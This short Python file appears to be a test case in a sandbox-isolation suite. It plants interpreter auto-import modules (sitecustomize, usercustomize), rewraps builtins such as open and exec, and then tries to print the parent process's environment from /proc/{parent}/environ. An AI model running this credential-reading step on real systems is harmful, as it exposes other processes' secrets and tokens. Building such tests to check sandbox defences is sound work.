# Beside it lie modules with the names that an interpreter or a harness may import before it is held by anything.
import json

import sitecustomize
import usercustomize

from attack import attempt, parent, tried

builtins = __import__("builtins")
for name in ("open", "compile", "exec", "repr", "getattr", "__import__"):
    original = getattr(builtins, name)
    setattr(builtins, name, lambda *a, original=original, **k: original(*a, **k))
tried((json, sitecustomize, usercustomize))
attempt("after", lambda: print(open(f"/proc/{parent}/environ").read()))
